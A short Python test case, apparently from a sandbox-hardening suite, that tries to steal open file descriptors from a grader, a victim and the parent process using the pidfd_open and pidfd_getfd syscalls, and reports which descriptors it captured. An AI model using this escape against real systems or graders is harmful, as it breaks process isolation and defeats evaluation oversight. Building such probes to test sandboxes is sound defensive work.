# ruff: noqa
"""Descriptors of the parent are taken over by pidfd_getfd.

defence: uid + landlock + seccomp: other processes
control: naive
wins: trophy
"""

import ctypes, os


def trophy():
    libc = ctypes.CDLL(None)
    won = []
    for pid in {int("@GRADER@"), int("@VICTIM@"), os.getppid()}:
        handle = libc.syscall(434, pid, 0)  # pidfd_open
        for number in range(8):
            if handle >= 0 and libc.syscall(438, handle, number, 0) >= 0:  # pidfd_getfd
                won.append(number)
    return won
